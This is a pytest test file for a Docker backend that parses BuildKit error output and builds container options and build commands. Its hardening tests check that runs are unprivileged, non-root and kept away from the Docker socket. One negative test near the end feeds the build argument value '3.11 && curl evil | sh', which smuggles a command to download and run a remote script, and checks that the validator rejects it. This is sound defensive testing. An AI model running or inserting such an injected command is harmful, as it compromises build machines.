"""docker.commands: a suite container's SDK options, the `docker build` argument list, reading BuildKit's output."""

from __future__ import annotations

import dataclasses
from pathlib import Path

import pytest

from stackfarm.backends import docker as dk
from stackfarm.backends.docker import ContainerSpec, DockerError, Mount
from test_docker_support import CELL

# -- reading the engine's output -----------------------------------------------------------------------------

# Plain progress of a failed RUN, as BuildKit inside docker 20.10 prints it (trimmed from a real build).
BUILDKIT_20_10 = """\
#4 [1/2] FROM docker.io/library/stackfarm-base:bookworm
#4 sha256:74ca8695aea015339b00ef62a6f2609a16f4386bd07fb0cd2598bcf4159d4ea7
#4 CACHED

#5 [torch 1/1] RUN python -m pip install --no-deps --require-hashes -r /tmp/stackfarm/torch/requirements.txt
#5 sha256:3bcac932073e9ec4d072511126f78f97ca6e7fa0ef61590502edd53208687d26
#5 0.615 Collecting torch@ https://files.pythonhosted.org/torch-2.9.1.whl
#5 0.243 ERROR: THESE PACKAGES DO NOT MATCH THE HASHES FROM THE REQUIREMENTS FILE.
#5 0.243     torch@ https://files.pythonhosted.org/torch-2.9.1.whl:
#5 ERROR: executor failed running [/bin/sh -c python -m pip install]: exit code: 1
------
 > [torch 1/1] RUN python -m pip install --no-deps --require-hashes -r /tmp/stackfarm/torch/requirements.txt:
------
executor failed running [/bin/sh -c python -m pip install]: exit code: 1
"""

# The same failure as newer BuildKit (buildx) prints it: the step's lines repeated without the "#N" prefix.
BUILDKIT_BUILDX = """\
#7 [kernels 1/1] RUN python -m pip install -r /tmp/stackfarm/kernels/requirements.txt
#7 1.20 Collecting sgl-kernel@ https://files.pythonhosted.org/sgl_kernel.whl
#7 9.80 OSError: [Errno 28] No space left on device
#7 ERROR: process "/bin/sh -c python -m pip install" did not complete successfully: exit code: 1
------
 > [kernels 1/1] RUN python -m pip install -r /tmp/stackfarm/kernels/requirements.txt:
9.80 OSError: [Errno 28] No space left on device
------
ERROR: failed to solve: process "/bin/sh -c python -m pip install" did not complete successfully: exit code: 1
"""


def test_build_failure_names_the_step_and_its_last_lines() -> None:
    failure = dk.parse_build_failure(BUILDKIT_20_10)
    assert failure.step.startswith("[torch 1/1] RUN python -m pip install")
    assert failure.reason == "executor failed running [/bin/sh -c python -m pip install]: exit code: 1"
    assert failure.tail[-2:] == (
        "ERROR: THESE PACKAGES DO NOT MATCH THE HASHES FROM THE REQUIREMENTS FILE.",
        "    torch@ https://files.pythonhosted.org/torch-2.9.1.whl:",
    )
    assert not failure.disk_full


def test_build_failure_sees_a_full_disk() -> None:
    failure = dk.parse_build_failure(BUILDKIT_BUILDX)
    assert failure.step.startswith("[kernels 1/1]")
    assert failure.tail[-1] == "OSError: [Errno 28] No space left on device"
    assert failure.disk_full


def test_build_failure_before_any_step_keeps_the_engine_message() -> None:
    failure = dk.parse_build_failure(
        "#1 [internal] load build definition\nERROR: failed to read dockerfile\n"
    )
    assert failure.step == "(before any build step)"
    assert failure.reason == "ERROR: failed to read dockerfile"


def test_loaded_image_names() -> None:
    assert dk.parse_loaded_image("Loaded image: stackfarm-base:bookworm\n") == "stackfarm-base:bookworm"
    assert dk.parse_loaded_image("Loaded image ID: sha256:abc\n") == "sha256:abc"
    assert dk.parse_loaded_image("nothing\n") is None


# -- command lines -------------------------------------------------------------------------------------------


def _run_spec(**changes: object) -> ContainerSpec:
    spec = ContainerSpec(
        image=f"stackfarm/{CELL}:0123456789abcdef",
        argv=("python", "-m", "pytest", "/stackfarm/project/suites/00-stack"),
        mounts=(Mount(source=Path("/work/main"), target="/stackfarm/project"),),
        env=(("STACKFARM_CELL", "/stackfarm/run/cell.json"),),
        ulimits=(("memlock", "-1"), ("stack", "67108864")),
        shm_size="16g",
    )
    return dataclasses.replace(spec, **changes)  # type: ignore[arg-type]


def test_cpu_run_gets_a_private_shm_and_no_gpu_flags() -> None:
    options = dk.create_options(_run_spec(), "c1")
    assert options["name"] == "c1"
    assert "device_requests" not in options
    assert "ipc_mode" not in options
    assert "ulimits" not in options
    assert options["shm_size"] == "16g"
    assert options["mounts"] == [
        {"Type": "bind", "Source": "/work/main", "Target": "/stackfarm/project", "ReadOnly": True}
    ]
    assert options["image"] == f"stackfarm/{CELL}:0123456789abcdef"
    assert options["command"] == ["python", "-m", "pytest", "/stackfarm/project/suites/00-stack"]
    assert options["environment"] == ["STACKFARM_CELL=/stackfarm/run/cell.json"]
    assert options["labels"] == {dk.LABEL_RUN: "c1"}


def test_gpu_run_gets_gpus_host_ipc_and_ulimits() -> None:
    options = dk.create_options(_run_spec(gpus=True), "c1")
    assert options["device_requests"] == [{"count": -1, "capabilities": [["gpu"]]}]  # --gpus all
    assert options["ipc_mode"] == "host"
    assert "shm_size" not in options
    assert options["ulimits"] == [
        {"name": "memlock", "soft": -1, "hard": -1},
        {"name": "stack", "soft": 67108864, "hard": 67108864},
    ]
    private = dk.create_options(
        _run_spec(gpus=True, ipc_host=False, ulimits=(("nofile", "1024:4096"),)), "c1"
    )
    assert "ipc_mode" not in private
    assert private["shm_size"] == "16g"
    assert private["ulimits"] == [{"name": "nofile", "soft": 1024, "hard": 4096}]


def test_runs_are_never_privileged_and_never_see_the_engine() -> None:
    options = dk.create_options(_run_spec(gpus=True, user="1000:1000"), "c1")
    assert "privileged" not in options
    assert not any("docker.sock" in str(v) for v in options.values())
    assert options["security_opt"] == ["no-new-privileges"]
    assert options["init"] is True
    assert options["user"] == "1000:1000"
    with pytest.raises(DockerError, match="absolute"):
        dk.create_options(_run_spec(mounts=(Mount(source=Path("rel"), target="/x"),)), "c1")
    with pytest.raises(DockerError, match="uid"):
        dk.create_options(_run_spec(user="root"), "c1")
    with pytest.raises(DockerError, match="not a valid image reference"):
        dk.create_options(_run_spec(image="Bad Image"), "c1")


def test_the_options_are_what_the_sdk_accepts() -> None:
    """The real SDK turns the options into its create request (no engine needed): the HostConfig the engine
    gets holds the same mounts, GPUs, ulimits and security options."""
    pytest.importorskip("docker", reason="the Docker SDK for Python (a stackfarm dependency) is missing")
    from docker.models.containers import _create_container_args  # type: ignore[attr-defined]

    options = dk.create_options(_run_spec(gpus=True, network="none"), "c1")
    options.pop("detach")
    args = _create_container_args({**options, "version": "1.41"})
    host = args["host_config"]
    assert host["Mounts"][0]["Source"] == "/work/main"
    assert host["Mounts"][0]["ReadOnly"] is True
    assert host["DeviceRequests"][0]["Capabilities"] == [["gpu"]]
    assert host["DeviceRequests"][0]["Count"] == -1
    assert host["Ulimits"][0] == {"Name": "memlock", "Soft": -1, "Hard": -1}
    assert host["SecurityOpt"] == ["no-new-privileges"]
    assert host["Init"] is True
    assert host["IpcMode"] == "host"
    assert host["NetworkMode"] == "none"
    assert args["labels"][dk.LABEL_RUN] == "c1"


def test_build_command_is_a_list_with_validated_args_and_secrets() -> None:
    argv = dk.build_argv(
        "docker",
        dockerfile=Path("/r/docker/Dockerfile"),
        context=Path("/c"),
        tag=f"stackfarm/{CELL}:0123456789abcdef",
        build_args={"BASE": "stackfarm-base:bookworm", "PYTHON": "3.11"},
        labels={dk.LABEL_CELL: CELL},
        secrets={"netrc": Path("/home/u/.netrc")},
    )
    assert argv[:3] == ["docker", "build", "--progress=plain"]
    assert argv[argv.index("PYTHON=3.11") - 1 : argv.index("PYTHON=3.11") + 1] == [
        "--build-arg",
        "PYTHON=3.11",
    ]
    assert "id=netrc,src=/home/u/.netrc" in argv
    assert argv[-1] == "/c"
    assert not any("token" in a or "password" in a.lower() for a in argv)
    # Every image carries BuildKit's inline cache metadata, so a pushed one can be another runner's cache.
    assert "BUILDKIT_INLINE_CACHE=1" in argv
    assert "--cache-from" not in argv
    cached = dk.build_argv(
        "docker",
        dockerfile=Path("/d"),
        context=Path("/c"),
        tag="t:1",
        build_args={},
        labels={},
        cache_from=("127.0.0.1:5000/stackfarm/cell:latest",),
    )
    assert cached[cached.index("--cache-from") + 1] == "127.0.0.1:5000/stackfarm/cell:latest"
    with pytest.raises(DockerError):
        dk.build_argv(
            "docker",
            dockerfile=Path("/d"),
            context=Path("/c"),
            tag="t:1",
            build_args={},
            labels={},
            cache_from=("not a ref",),
        )
    with pytest.raises(DockerError):
        dk.build_argv(
            "docker",
            dockerfile=Path("/d"),
            context=Path("/c"),
            tag="t:1",
            build_args={"PYTHON": "3.11 && curl evil | sh"},
            labels={},
        )
